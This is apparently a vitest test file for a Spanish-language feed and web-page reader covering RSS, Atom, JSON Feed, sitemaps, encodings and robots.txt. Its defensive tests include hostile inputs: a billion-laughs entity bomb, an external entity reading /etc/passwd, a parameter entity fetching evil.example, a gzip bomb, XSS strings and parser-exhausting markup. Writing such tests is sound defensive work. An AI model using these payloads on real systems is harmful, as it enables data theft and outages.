import { gzipSync } from "node:zlib";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { decodeText } from "./decode.ts";
import { readFeed } from "./feed.ts";
import { limits } from "./limits.ts";
import { notInForceMarkers, readPage } from "./page.ts";
import { plainText, tidy, tidyLine } from "./plain-text.ts";
import { readDocument } from "./reader.ts";
import { readRobots } from "./robots.ts";
import { readSitemap } from "./sitemap.ts";

const bytes = (text: string, encoding: BufferEncoding = "utf8") => new Uint8Array(Buffer.from(text, encoding));
const feedOf = (text: string, type?: string) => readFeed(bytes(text), type);
const value = <Value>(result: { readonly ok: true; readonly value: Value } | { readonly ok: false; readonly refusal: unknown }): Value => {
  if (!result.ok) throw new Error(`refused: ${JSON.stringify(result.refusal)}`);
  return result.value;
};
const refusal = (result: { readonly ok: boolean; readonly refusal?: unknown }) => result.refusal;

const rss = (items: string, head = "") => `<?xml version="1.0"?>${head}<rss version="2.0"><channel><title>Noticias</title><link>https://web.example/</link>${items}</channel></rss>`;
const item = (more: string) => `<item><title>Corte en la calle Mayor</title><link>https://web.example/n/1</link>${more}</item>`;

describe("FLO-1: feeds of every kind", () => {
  test("RSS 2.0, with HTML reduced to words", () => {
    const feed = value(feedOf(rss(item(`<description>&lt;p&gt;Desde el &lt;b&gt;lunes&lt;/b&gt;&amp;nbsp;21.&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;</description><pubDate>Mon, 21 Sep 2026 10:00:00 +0200</pubDate>`))));
    expect(feed).toMatchObject({ format: "rss", title: "Noticias", items: [{ title: "Corte en la calle Mayor", link: "https://web.example/n/1", summary: "Desde el lunes 21.", publishedAt: "2026-09-21T08:00:00.000Z" }] });
  });
  test("RSS 0.91 with its document type", () => {
    const doctype = `<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">`;
    expect(value(feedOf(rss(item(""), doctype).replace("2.0", "0.91"))).items).toHaveLength(1);
  });
  test("RSS 1.0", () => {
    const text = `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel rdf:about="https://web.example/"><title>T</title></channel><item rdf:about="https://web.example/1"><title>Uno</title><link>https://web.example/1</link><dc:date>2026-09-21T10:00:00+02:00</dc:date></item></rdf:RDF>`;
    expect(value(feedOf(text))).toMatchObject({ format: "rdf", items: [{ title: "Uno", link: "https://web.example/1", publishedAt: "2026-09-21T08:00:00.000Z" }] });
  });
  test("Atom, where plain text is not markup", () => {
    const text = `<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="eu"><title>Albisteak</title><id>x</id><updated>2026-09-21T08:00:00Z</updated><entry><id>tag:1</id><title type="text">a &lt;b&gt; &amp;amp; c</title><link rel="self" href="https://web.example/self"/><link href="https://web.example/1" hreflang="eu"/><updated>2026-09-21T08:00:00Z</updated><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Bat</p><p>Bi</p></div></content></entry></feed>`;
    expect(value(feedOf(text))).toMatchObject({ format: "atom", language: "eu", items: [{ title: "a <b> &amp; c", link: "https://web.example/1", language: "eu", text: "Bat\n\nBi", modifiedAt: "2026-09-21T08:00:00.000Z" }] });
  });
  test("JSON Feed", () => {
    const text = JSON.stringify({ version: "https://jsonfeed.org/version/1.1", title: "T", language: "es", items: [{ id: "1", url: "https://web.example/1", title: "x < y", content_html: "<p>Hola</p>", date_published: "2026-09-21T10:00:00+02:00" }] });
    expect(value(feedOf(text))).toMatchObject({ format: "json", language: "es", items: [{ title: "x < y", text: "Hola", publishedAt: "2026-09-21T08:00:00.000Z" }] });
  });
  test("items without a title are named by their beginning", () => {
    expect(value(feedOf(rss("<item><link>https://web.example/1</link><description>Aviso breve</description></item>"))).items[0]?.title).toBe("Aviso breve");
  });
});

describe("T5: bad feeds are clear errors", () => {
  test("billion laughs", () => {
    const laughs = `<!DOCTYPE rss [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, n) => `<!ENTITY lol${n} "${`&lol${n === 0 ? "" : n - 1};`.repeat(10)}">`).join("")}]>`;
    expect(refusal(feedOf(rss(item("<description>&lol8;</description>"), laughs)))).toEqual({ kind: "entities-declared" });
  });
  test("external entities", () => {
    expect(refusal(feedOf(rss(item("<description>&x;</description>"), `<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>`)))).toEqual({ kind: "entities-declared" });
    expect(refusal(feedOf(rss(item(""), `<!--a--><?x y?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/">%p;]>`)))).toEqual({ kind: "entities-declared" });
  });
  test("cut off in the middle", () => {
    const whole = rss(item("<description>texto</description>").repeat(3));
    for (const length of [whole.length - 3, whole.indexOf("</rss>"), whole.indexOf("</channel>"), 200, 120]) expect(refusal(feedOf(whole.slice(0, length)))).toEqual({ kind: "malformed" });
    expect(value(feedOf(`${whole}\n<!-- served by cache -->\n`)).items).toHaveLength(3);
  });
  test.each([
    ["a page", "<!doctype html><html><body>404</body></html>", { kind: "not-a-feed" }],
    ["nothing", "", { kind: "not-a-feed" }],
    ["other JSON", `{"a":1}`, { kind: "not-a-feed" }],
    ["broken JSON", `{"version":"https://jsonfeed.org/version/1.1","items":[`, { kind: "not-a-feed" }],
    ["another XML", "<svg/>", { kind: "not-a-feed" }],
  ])("%s", (_what, text, expected) => {
    expect(refusal(feedOf(text))).toEqual(expected);
  });
  test("more items than the cap are cut and counted", () => {
    const many = rss(Array.from({ length: limits.feedItems + 25 }, (_, n) => `<item><title>n${n}</title><link>https://web.example/${n}</link></item>`).join(""));
    const feed = value(feedOf(many));
    expect(feed.items).toHaveLength(limits.feedItems);
    expect(feed.overLimit).toBe(1);
  });
  test("fields have an end", () => {
    const feed = value(feedOf(rss(`<item><title>${"t".repeat(5_000)}</title><link>https://web.example/1</link><description>${"😀".repeat(5_000)}</description></item>`)));
    expect(feed.items[0]?.title).toHaveLength(limits.title);
    expect(feed.items[0]?.summary.length).toBeLessThanOrEqual(limits.summary);
    expect(feed.items[0]?.summary.isWellFormed()).toBe(true);
  });
  test("nothing that the database cannot hold comes through", () => {
    const feed = value(feedOf(rss(item("<description>a\u0000b&#0;c\u202Ed\uD800e</description>"))));
    expect(feed.items[0]?.summary).toMatch(/^a ?b.?c ?d.?e$/u);
    expect(feed.items[0]?.summary).not.toMatch(/[\0\u202e]/);
  });
});

describe("encodings", () => {
  const text = "<?xml version='1.0'?><a>ñandú — Añastro €</a>";
  test("UTF-8 without saying so", () => expect(value(decodeText(bytes(text), undefined))).toBe(text));
  test("a mark before all else", () => expect(value(decodeText(bytes(`\ufeff${text}`), "text/xml; charset=iso-8859-1"))).toBe(text));
  test("UTF-16 with and without mark", () => {
    expect(value(decodeText(bytes(`\ufeff${text}`, "utf16le"), undefined))).toBe(text);
    expect(value(decodeText(bytes(text, "utf16le"), undefined))).toBe(text);
    expect(value(decodeText(new Uint8Array(Buffer.from(text, "utf16le").swap16()), undefined))).toBe(text);
  });
  test("windows-1252 that says nothing", () => {
    expect(value(decodeText(bytes("<a>ñandú\x80</a>", "latin1"), undefined))).toBe("<a>ñandú€</a>");
  });
  test("the header, then the declaration", () => {
    const latin = "<?xml version='1.0' encoding='iso-8859-15'?><a>\xa4</a>";
    expect(value(decodeText(bytes(latin, "latin1"), undefined))).toContain("€");
    expect(value(decodeText(bytes(latin, "latin1"), "text/xml; charset=iso-8859-1"))).toContain("¤");
  });
  test("a claim that does not hold is a clear error, not a guess", () => {
    expect(refusal(decodeText(bytes("<?xml version='1.0' encoding='utf-8'?><a>ñ</a>", "latin1"), undefined))).toEqual({ kind: "undecodable", charset: "utf-8" });
    expect(refusal(decodeText(bytes("ñ", "latin1"), "text/xml; charset=utf-8"))).toEqual({ kind: "undecodable", charset: "utf-8" });
  });
  test("an encoding that nobody knows", () => {
    expect(refusal(decodeText(bytes("x"), "text/xml; charset=klingon"))).toEqual({ kind: "unknown-charset", charset: "klingon" });
  });
  test("what is no text at all", () => {
    expect(refusal(decodeText(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0, 1, 2, 0xff]), undefined))).toEqual({ kind: "undecodable", charset: "utf-8" });
  });
});

describe("sitemaps", () => {
  const urls = (inner: string) => `<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" xmlns:xhtml="http://www.w3.org/1999/xhtml" xmlns:image="i">${inner}</urlset>`;
  const one = `<url><loc> https://web.example/a?x=1&amp;y=2 </loc><lastmod>2026-09-21</lastmod><image:image><image:loc>https://web.example/p.jpg</image:loc></image:image><xhtml:link rel="alternate" hreflang="eu" href="https://web.example/eu/a"/></url>`;
  test("pages with dates and translations, not their pictures", () => {
    expect(value(readSitemap(bytes(urls(one)), undefined))).toEqual({
      kind: "pages", overLimit: 0,
      pages: [{ url: "https://web.example/a?x=1&y=2", modifiedAt: "2026-09-21T00:00:00.000Z", alternates: [{ language: "eu", url: "https://web.example/eu/a" }] }],
    });
  });
  test("compressed, as a list of lines, as an index", () => {
    expect(value(readSitemap(new Uint8Array(gzipSync(urls(one))), "application/gzip"))).toMatchObject({ kind: "pages", pages: [{}] });
    expect(value(readSitemap(bytes("https://web.example/1\nhttps://web.example/2\n"), "text/plain"))).toMatchObject({ pages: [{ url: "https://web.example/1" }, { url: "https://web.example/2" }] });
    expect(value(readSitemap(bytes(`<sitemapindex><sitemap><loc>https://web.example/s1.xml</loc></sitemap></sitemapindex>`), undefined))).toEqual({ kind: "index", sitemaps: ["https://web.example/s1.xml"], overLimit: 0 });
  });
  test("T5: bombs, cuts and other things are clear errors", () => {
    expect(refusal(readSitemap(new Uint8Array(gzipSync(Buffer.alloc(20_000_000, 32))), undefined))).toEqual({ kind: "compression-bomb" });
    expect(refusal(readSitemap(new Uint8Array(gzipSync(urls(one)).subarray(0, 60)), undefined))).toEqual({ kind: "malformed" });
    expect(refusal(readSitemap(bytes(urls(one).slice(0, -5)), undefined))).toEqual({ kind: "malformed" });
    expect(refusal(readSitemap(bytes("<html></html>"), undefined))).toEqual({ kind: "not-a-sitemap" });
    expect(refusal(readSitemap(bytes(`<!DOCTYPE urlset [<!ENTITY a "b">]>${urls(one)}`), undefined))).toEqual({ kind: "entities-declared" });
  });
  test("addresses beyond the protocol's 50,000 are counted", () => {
    const sitemap = value(readSitemap(bytes(urls("<url><loc>https://web.example/</loc></url>".repeat(50_003))), undefined));
    expect(sitemap).toMatchObject({ overLimit: 3 });
  });
});

describe("pages", () => {
  const pageOf = (html: string) => value(readPage(bytes(html), "text/html; charset=utf-8", notInForceMarkers));
  const head = `<title>Inscripciones · Ayuntamiento</title><meta name="description" content="Del 22 al 30"><link rel="canonical" href="/c?uid=1"><link rel="alternate" hreflang="eu" href="/c?uid=1&amp;idioma=eu"><link rel="alternate" type="application/rss+xml" title="Noticias" href="/rss.xml"><meta property="article:modified_time" content="2026-09-21T10:00:00+02:00">`;
  const body = `<header><nav>Inicio Agenda</nav></header><main><h1>Inscripciones de otoño</h1><p>Las inscripciones abren el <b>lunes 22</b> a las 9:00 en todos los centros cívicos de la ciudad.</p><ul><li>Precio: 12 €</li></ul><script>steal()</script></main><footer>Cookies</footer>`;
  test("WEB-1, WEB-3: what it says of itself, and its words without furniture", () => {
    const page = pageOf(`<!doctype html><html lang="es"><head>${head}</head><body>${body}</body></html>`);
    expect(page).toMatchObject({
      title: "Inscripciones de otoño", description: "Del 22 al 30", language: "es", canonical: "/c?uid=1", alternates: [{ language: "eu", url: "/c?uid=1&idioma=eu" }],
      feeds: [{ url: "/rss.xml", title: "Noticias" }], modifiedAt: "2026-09-21T08:00:00.000Z", notInForce: false,
    });
    expect(page.text).toContain("lunes 22 a las 9:00");
    expect(page.text).toContain("\nPrecio: 12 €");
    expect(page.text).not.toMatch(/steal|Cookies|Agenda/);
  });
  test("WEB-6: it says that it is not in force", () => {
    expect(pageOf(`<html><body><div>Este contenido   no está\nvigente.</div></body></html>`).notInForce).toBe(true);
    expect(pageOf(`<html><body><script>"Este contenido no está vigente."</script>Vigente</body></html>`).notInForce).toBe(false);
  });
  test("what is no page is not read as one", () => {
    expect(refusal(readPage(bytes("%PDF-1.7"), "application/pdf", []))).toEqual({ kind: "not-a-page" });
  });
  test("T9: hostile markup takes no time", () => {
    for (const html of ["<div>".repeat(200_000), "<a ".repeat(300_000), "<!--".repeat(200_000), "&amp".repeat(250_000), `<p ${"x='' ".repeat(200_000)}>`, "<svg><style><title>".repeat(50_000)]) {
      const from = performance.now();
      pageOf(html);
      expect(performance.now() - from).toBeLessThan(2_000);
    }
  });
});

test("T7: words come out of HTML, and nothing that runs", () => {
  expect(plainText(`<p>uno<br>dos</p><img src=x onerror=alert(1)><iframe src="javascript:x">no</iframe><style>p{}</style>&lt;b&gt;`, 1_000)).toBe("uno\ndos\n<b>");
  expect(tidy("a\u0007b\u200bc  d\r\n e", 100)).toBe("abc d\ne");
});

test("tidying leaves what is tidy, and brings any white space to single spaces and lines", () => {
  const plainly = (text: string) => text.replaceAll(/[^\S\n]+/g, " ").replaceAll(/ ?\n ?/g, "\n").replaceAll(/\n{3,}/g, "\n\n").trim();
  fc.assert(fc.property(fc.array(fc.constantFrom("a", "ñ", " ", "\n", "  ", "\t", "\u00a0", "\r\n", " \n "), { maxLength: 40 }), (parts) => {
    const text = parts.join("");
    expect(tidy(text, 1_000)).toBe(plainly(text));
    expect(tidyLine(text, 1_000)).toBe(text.replaceAll(/\s+/g, " ").trim());
    expect(plainText(text, 1_000)).toBe(tidy(text, 1_000));
  }));
});

test("robots.txt speaks to us by name, or to all", () => {
  const robots = readRobots("https://web.example/robots.txt", "User-agent: *\nDisallow: /privado\nCrawl-delay: 3\n\nUser-agent: Pregonero\nDisallow: /borradores\n\nSitemap: https://web.example/s.xml");
  expect([robots.mayRead("https://web.example/privado/1"), robots.mayRead("https://web.example/borradores/1"), robots.sitemaps]).toEqual([true, false, ["https://web.example/s.xml"]]);
  expect(readRobots("https://web.example/robots.txt", "User-agent: *\nCrawl-delay: 3").delaySeconds).toBe(3);
});

describe("T5: the reading thread", () => {
  test("reads several documents at once, each to whom it belongs", async () => {
    const answers = await Promise.all(Array.from({ length: 20 }, (_, n) => readDocument({ as: "feed", bytes: bytes(rss(`<item><title>n${n}</title><link>https://web.example/${n}</link></item>`)), contentType: undefined })));
    expect(answers.map((answer) => value(answer).items[0]?.title)).toEqual(Array.from({ length: 20 }, (_, n) => `n${n}`));
  });
  test("survives what overflows a parser", async () => {
    const deep = `<rss version="2.0"><channel><title>x</title>${"<a>".repeat(400_000)}${"</a>".repeat(400_000)}</channel></rss>`;
    const answer = await readDocument({ as: "feed", bytes: bytes(deep), contentType: undefined });
    expect(answer.ok ? "read" : answer.refusal.kind).toMatch(/^(malformed|parser-gave-up|read)$/);
    expect((await readDocument({ as: "feed", bytes: bytes(rss(item(""))), contentType: undefined })).ok).toBe(true);
  }, 30_000);
});
